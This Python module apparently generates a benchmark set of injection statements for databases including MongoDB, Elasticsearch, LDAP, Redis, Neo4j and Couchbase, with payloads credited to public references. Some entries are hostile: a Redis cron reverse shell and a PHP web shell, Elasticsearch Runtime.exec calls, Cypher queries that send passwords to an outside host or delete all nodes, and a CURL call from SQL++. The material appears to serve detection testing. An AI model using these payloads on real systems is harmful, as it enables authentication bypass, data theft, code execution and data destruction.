# ruff: noqa: E501  data, a statement a line
"""Injected statements by the published techniques, each within statements that apps make."""

import json
from collections.abc import Iterator
from typing import Any, Final

from bench.nosql.honest import Statement

_OPERATORS: Final[dict[str, list[tuple[Any, Any]]]] = {
    "OWASP WSTG": [({"$ne": ""}, {"$ne": ""}), ({"$gt": ""}, {"$gt": ""}), ("admin", {"$ne": None})],
    "PayloadsAllTheThings": [
        ({"$ne": None}, {"$ne": None}), ({"$ne": "toto"}, {"$ne": "toto"}), ({"$gt": None}, {"$gt": None}),
        ({"$regex": "a.*"}, {"$ne": "toto"}), ("admin", {"$regex": "^m"}), ("admin", {"$regex": ".{1}"}),
        ({"$in": ["Admin", "4dm1n", "admin", "root"]}, {"$gt": ""}), ({"$gt": "admin", "$lt": "test"}, {"$ne": "1"}),
        ({"$nin": ["admin"]}, {"$gt": ""}), ("admin", {"$exists": True}),
    ],
    "HackTricks": [
        ({"$gt": ""}, {"$gt": ""}), ({"$exists": True}, {"$exists": True}), ({"$eq": "admin"}, {"$regex": "^md"}),
        ({"$regex": ".*"}, {"$regex": ".*"}), ("admin", {"$gt": "undefined"}), ({"$ne": "1"}, {"$gte": ""}),
    ],
    "PortSwigger": [
        ({"$ne": "invalid"}, {"$ne": "invalid"}), ({"$in": ["admin", "administrator"]}, {"$ne": ""}),
        ("carlos", {"$ne": "invalid"}), ("admin", {"$regex": "^.*"}), ({"$regex": "admin.*"}, {"$ne": ""}),
    ],
    "NoSQLMap": [("tester", {"$gt": ""}), ("tester", {"$ne": 1}), ({"$ne": -1}, {"$ne": -1}), ("a", {"$regex": "^[a-z]"})],
}  # fmt: skip
_WHERE: Final[dict[str, list[str]]] = {
    "PortSwigger": ["' || '1'=='1", "' && 1 || 'x", "'||1||'", "' && this.password[0] == 'a' || 'a'=='b", "'%00",
                    "' && this.password.match(/\\d/) || 'a'=='b"],
    "HackTricks": ["' || 1==1//", "' || 1==1%00", "'; return true; var d='", "a'; sleep(5000); var a='",
                   "' || this.passwordField.length > 5 //", "'; while(true){}; //"],
    "NoSQLMap": ["a'; return this.a != 'zz'; var dummy='!", "1; return this.a != 1; var dummy=1", "a'; return db.a.find(); var d='!",
                 "'; var t = new Date(); do { c = new Date(); } while(c - t < 5000); var d='"],
}  # fmt: skip
_SEARCHES: Final[dict[str, list[str]]] = {
    "Lucene injection": ["x) OR (*:*", "x OR *:*", "x\" OR *:* OR \"x", "x || *:*", "x) OR (password:*", "x OR 1=1",
                         "x AND password:/a.*/", "x OR user_id:[* TO *]", "x) OR _exists_:(password", "* OR password:*"],
}  # fmt: skip
_BODIES: Final[dict[str, list[dict[str, Any]]]] = {
    "Elasticsearch injection": [
        {"query": {"bool": {"should": [{"term": {"owner": "ann"}}, {"match_all": {}}]}}},
        {"query": {"bool": {"must": [{"term": {"user": "admin"}}, {"wildcard": {"password": "*"}}]}}},
        {"query": {"bool": {"must": [{"term": {"user": "admin"}}, {"regexp": {"password": "a.*"}}]}}},
        {"query": {"bool": {"must": [{"term": {"user": "admin"}}, {"prefix": {"password.keyword": "a"}}]}}},
        {"query": {"bool": {"must": [{"term": {"user": "admin"}}, {"exists": {"field": "password"}}]}}},
        {"query": {"bool": {"must": [{"term": {"user": "a"}}, {"range": {"token": {"gte": "a"}}}]}}},
        {"script_fields": {"x": {"script": {"lang": "groovy", "source": "java.lang.Math.class.forName('java.lang.Runtime')"}}}},
        {"script_fields": {"x": {"script": "import java.util.*; new java.util.Scanner(Runtime.getRuntime().exec('id'))"}}},
        {"query": {"script": {"script": "doc['owner'].value == 'x' || 1 == 1"}}},
        {"query": {"script": {"script": "doc['owner'].value == 'x' || true"}}},
    ],
}  # fmt: skip
_TEXTS: Final[list[Statement]] = [
    *(("LDAP injection", "ldap", text) for text in (
        "(&(uid=admin)(&)(userPassword=x))", "(&(uid=*)(uid=*))(|(uid=*)(userPassword=x))", "(&(uid=*)(userPassword=*))",
        "(&(uid=admin)(!(&(1=0)(userPassword=q))))", "(&(uid=admin))(&(|(userPassword=x))", "(|(uid=x)(uid=*))",
        "(&(uid=*))(|(uid=*)(userPassword=x))", "(&(uid=admin)(userPassword=a*))", "(uid=x)(|(objectClass=*))",
        "(&(uid=*)(|(&)(userPassword=x))", "(&(uid=admin))\x00(userPassword=x))", "(&(sAMAccountName=*)(unicodePwd=*))",
        "(|(cn=x)(objectClass=*))", "(&(cn=admin)(cn=*))(|(cn=*)(password=x))", "(&(uid=admin)(userPassword=*)(uid=*))",
    )),
    *(("Redis injection", "redis", text) for text in (
        "GET x\r\nCONFIG SET dir /var/www/html", "GET x\r\n*1\r\n$8\r\nFLUSHALL", "SET x \n\n*/1 * * * * bash -i >& /dev/tcp/a/1\n\n",
        "EVAL \"os.execute('id')\" 0", "EVAL \"local f = package.loadlib('/usr/lib/x.so', 'luaopen_io')\" 0",
        "EVAL \"redis.call('CONFIG', 'SET', 'dir', '/var/spool/cron')\" 0", "SET x <?php system($_GET['c']); ?>",
        "GET user:1\\r\\nKEYS *", "SET k \n\nssh-rsa AAAAB3Nza a@b\n\n",
    )),
    *(("Cypher injection", "neo4j", text) for text in (
        "MATCH (u:User) WHERE u.name = 'x' OR 1=1 RETURN u", "MATCH (u:User) WHERE u.name = '' OR true RETURN u",
        "MATCH (u:User) WHERE u.name = 'x' OR '1'='1' RETURN u // ' RETURN u",
        "MATCH (u) WHERE u.name = 'x' RETURN u UNION MATCH (n) RETURN n // ' RETURN u",
        "MATCH (u) WHERE u.name = 'x' OR 1=1 WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://a/' + label AS b RETURN 0 //' RETURN u",
        "MATCH (u) WHERE u.name = 'x' CALL apoc.load.json('http://a/x') YIELD value RETURN value // '",
        "MATCH (u) WHERE u.name = 'x' LOAD CSV FROM 'https://a/' + u.password AS l RETURN l // '",
        "MATCH (u:User {name: 'x'}) WITH u MATCH (n) DETACH DELETE n // '}) RETURN u",
        "MATCH (u) WHERE u.id = 1 OR 1=1 RETURN u", "MATCH (u) WHERE u.name = 'x'' RETURN u",
    )),
    *(("SQL++ injection", "couchbase", text) for text in (
        "SELECT * FROM `b` WHERE name = \"x\" OR 1=1", "SELECT * FROM `b` WHERE name = '' OR '1'='1'",
        "SELECT * FROM b WHERE name = 'x' UNION SELECT * FROM system:keyspaces -- '",
        "SELECT * FROM b WHERE name = 'x' AND 1=2 UNION SELECT CURL('http://a/') -- '",
    )),
]  # fmt: skip


def statements() -> Iterator[Statement]:
    """Yield all injected statements."""
    for source, pairs in _OPERATORS.items():
        for name, secret in pairs:
            for fields in (("username", "password"), ("email", "passwd"), ("user", "token")):
                condition = {fields[0]: name, fields[1]: secret}
                command = {"find": "users", "filter": condition, "limit": 1, "singleBatch": True}
                yield source, "mongodb", json.dumps(command)
                yield source, "mongodb", f"find {condition!r}"
                yield source, "mongodb", json.dumps({"condition": condition, "options": {}})
                yield source, "mongodb", f"db.users.findOne({json.dumps(condition)})"
    for source, inputs in _WHERE.items():
        for text in inputs:
            mark = "" if text[0].isdecimal() else "'"
            yield (
                source,
                "mongodb",
                json.dumps({"find": "users", "filter": {"$where": f"this.username == {mark}{text}{mark}"}}),
            )
            code = f"function() {{ return this.name == {mark}{text}{mark}; }}"
            yield source, "mongodb", json.dumps({"find": "items", "filter": {"$where": code}})
    for source, conditions in {"branches": _BRANCHES}.items():
        for condition in conditions:
            yield source, "mongodb", json.dumps({"find": "orders", "filter": condition})
            yield source, "mongodb", f"find {condition!r}"
    for source, inputs in _SEARCHES.items():
        for text in inputs:
            yield source, "elasticsearch", json.dumps({"query": {"query_string": {"query": text}}})
            yield source, "elasticsearch", text
    for source, bodies in _BODIES.items():
        yield from ((source, "elasticsearch", json.dumps(body)) for body in bodies)
    yield from _TEXTS


_BRANCHES: Final[list[dict[str, Any]]] = [
    {"$or": [{"owner": "ann"}, {}]}, {"owner": "ann", "$or": [{"a": 1}, {"a": {"$ne": 1}}]}, {"owner": "a", "$expr": True},
    {"_id": {"$ne": None}}, {"_id": {"$gt": ""}}, {"id": {"$regex": ".*"}}, {"$expr": {"$eq": [1, 1]}},
    {"_id": {"$exists": True}}, {"id": {"$ne": -1}}, {"id": {"$gt": ""}}, {"$or": [{}, {"a": "a"}], "owner": "x"},
    {"$nor": [{"id": "x"}], "_id": {"$nin": []}},
]  # fmt: skip
